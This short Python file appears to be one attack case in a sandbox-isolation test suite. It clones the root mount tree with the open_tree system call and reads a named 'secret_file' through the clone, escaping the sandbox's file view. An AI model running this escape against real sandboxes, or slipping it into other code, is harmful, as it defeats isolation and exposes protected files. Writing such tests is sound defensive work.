"""Success: a file outside, in a copy of the mount tree."""

import os

from kit import system_call, tries

OPEN_TREE_CLONE = 1
AT_RECURSIVE = 0x8000


def copy(path):
    fd = system_call("open_tree", -100, b"/", OPEN_TREE_CLONE | AT_RECURSIVE)
    return os.read(os.open(path[1:], os.O_RDONLY, dir_fd=fd), 4096)


def attack(a):
    return tries(lambda: copy(a["secret_file"]))
